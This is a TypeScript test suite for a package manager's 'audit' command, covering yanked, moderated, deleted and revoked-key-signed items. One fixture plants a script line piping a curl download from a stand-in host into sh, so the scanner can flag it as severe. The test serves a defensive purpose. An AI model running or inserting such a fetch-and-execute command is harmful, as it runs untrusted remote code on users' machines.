// audit: what is installed and is no longer vouched for.
import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { describe } from 'node:test'
import { onEngines } from '../../test/databases.ts'
import { automationFile } from '../../test/library.ts'
import { at, homeOf, publish } from './items.ts'
import { onTerminal, type Terminal } from './terminal.ts'

interface Audited {
  name: string
  version: string
  problems: { type: string; reason: string }[]
}

/** The result of an audit with problems: it is alone on the standard output. */
async function problems(terminal: Terminal, expected: 0 | 1 = 1): Promise<[name: string, ...string[]][]> {
  const all = await terminal.json<Audited[]>(['audit'], at(terminal, { expected }))
  return all.map(({ name, problems }) => [name, ...problems.map(({ type, reason }) => `${type}: ${reason}`)])
}

describe('audit', () => {
  onTerminal('is content with what is well, and with nothing', async (terminal) => {
    const { run, world } = terminal
    assert.match((await run(['audit'], at(terminal))).output, /^Nothing is installed\.\n$/)
    await publish(world.alice, { '1.0.0': ['a.example'] })
    await run(['install', 'workflow/digest'], at(terminal))
    assert.match((await run(['audit'], at(terminal))).output, /^1 installed, no problem found\.\n$/)
    assert.deepEqual(await problems(terminal, 0), [])
    await run(['audit', 'workflow/none'], at(terminal, { expected: 1 }))
  })

  onTerminal(
    'finds versions that were yanked, found severe, hidden or deleted, and changes nothing',
    async (terminal) => {
      const { run, world } = terminal
      const { alice, bob, moderator } = world
      await publish(alice, { '1.0.0': ['a.example'], '1.1.0': ['a.example'] })
      const data = Buffer.from('#!/bin/sh\ncurl https://x.example/i.sh | sh\n')
      const board = await alice.library.publish({
        kind: 'automation',
        visibility: 'public',
        file: automationFile({}, [{ name: 'run.sh', data }]),
      })
      await run(['install', 'workflow/digest@1.0.0', 'automation/harbor-board', '--yes'], at(terminal))
      const lock = join(homeOf(terminal), 'guildhall.lock')
      const before = await readFile(lock)
      const severe = ['automation/harbor-board', 'severe: run.sh:2 what is fetched is run by a shell'] as const
      assert.deepEqual(await problems(terminal), [severe])
      const { id } = await alice.library.find({ kind: 'workflow', slug: 'digest' })
      // Another version is not the one that is installed.
      await alice.library.yank({ id, version: '1.1.0', yanked: true })
      assert.deepEqual(await problems(terminal), [severe])
      await alice.library.yank({ id, version: '1.0.0', yanked: true, reason: 'It sends twice' })
      assert.deepEqual(await problems(terminal), [severe, ['workflow/digest', 'yanked: It sends twice']])
      const { output, errors } = await run(['audit', 'workflow/digest'], at(terminal, { expected: 1 }))
      assert.match(output, /^workflow\/digest 1\.0\.0 {2}yanked: It sends twice\n$/)
      assert.match(errors, /1 of 1 installed have problems/)
      await bob.reports.create({ targetType: 'item', targetId: board.id, reason: 'spam' })
      const [waiting] = (await moderator.moderation.cases({})).items
      await moderator.moderation.decide({ id: waiting!.id, action: 'hide', rule: 'malware', reason: 'It fetches' })
      const hidden = 'hidden: the server does not show it: it is hidden or deleted, or not for you'
      await alice.library.delete({ id })
      assert.deepEqual(await problems(terminal), [
        ['automation/harbor-board', hidden],
        ['workflow/digest', hidden],
      ])
      await terminal.login()
      assert.deepEqual((await problems(terminal))[0], ['automation/harbor-board', 'hidden: it is hidden', severe[1]])
      assert.deepEqual(await readFile(lock), before)
    },
  )
})

onEngines('audit of keys', (open) => {
  /** workflow/digest, signed by alice in this profile; without one, by the person who audits. */
  const signed = async ({ run, login, world }: Terminal, profile = 'default') => {
    await publish(world.alice, { '1.0.0': ['a.example'] }, profile === 'default' ? 'private' : 'public')
    await login(profile)
    await run(['key', 'new', 'Laptop', '--profile', profile])
    await run(['key', 'sign', 'workflow/digest@1.0.0', '--profile', profile])
  }
  const revoke = async ({ json, world }: Terminal, profile = 'default') => {
    const [key] = await json<{ id: string }[]>(['key', 'list', '--profile', profile])
    world.clock.pass(60)
    return (await json<{ revoked_at: string }>(['key', 'revoke', key!.id, '--profile', profile])).revoked_at
  }

  onTerminal(
    'finds what others signed with a key that they revoked since',
    async (terminal) => {
      const { run, json } = terminal
      await signed(terminal, 'alice')
      await run(['install', 'workflow/digest'], at(terminal))
      assert.deepEqual(await problems(terminal, 0), [])
      const revokedAt = await revoke(terminal, 'alice')
      const revoked = ['workflow/digest', `key_revoked: the key that signed it was revoked on ${revokedAt}`] as const
      assert.deepEqual(await problems(terminal), [revoked])
      // It counts: who installs it is warned.
      const elsewhere = at(terminal, { name: 'elsewhere' })
      const { errors } = await run(['install', 'workflow/digest'], elsewhere)
      assert.ok(
        errors.includes(`workflow/digest 1.0.0 is signed with a key that was revoked on ${revokedAt}\n`),
        errors,
      )
      const [verified] = await json<{ state: string; keyRevokedAt: string | null }[]>(['verify'], elsewhere)
      assert.deepEqual([verified!.state, verified!.keyRevokedAt], ['verified', revokedAt])
      assert.match((await run(['verify'], elsewhere)).output, /, signed with a key that was revoked on 2/)
    },
    open,
  )

  onTerminal(
    'finds it of private items too',
    async (terminal) => {
      const { run } = terminal
      await signed(terminal)
      await run(['install', 'workflow/digest'], at(terminal))
      assert.deepEqual(await problems(terminal, 0), [])
      const revokedAt = await revoke(terminal)
      assert.deepEqual(await problems(terminal), [
        ['workflow/digest', `key_revoked: the key that signed it was revoked on ${revokedAt}`],
      ])
    },
    open,
  )

  onTerminal(
    'doubts what was stated after the revocation, and installs it nowhere',
    async (terminal) => {
      const { run, world } = terminal
      await signed(terminal, 'alice')
      await run(['install', 'workflow/digest'], at(terminal))
      await revoke(terminal, 'alice')
      // What no honest server has: a key that was revoked before.
      await world.db.updateTable('publisherKey').set({ revokedAt: '2020-01-01T00:00:00.000Z' }).execute()
      const [found] = await problems(terminal)
      assert.match(
        found![1]!,
        /^key_revoked: The key of the publisher was revoked at 2020-01-01T00:00:00.000Z, before the statement/,
      )
      const { errors } = await run(['install', 'workflow/digest'], at(terminal, { name: 'elsewhere', expected: 1 }))
      assert.match(errors, /was revoked at 2020/)
    },
    open,
  )
})
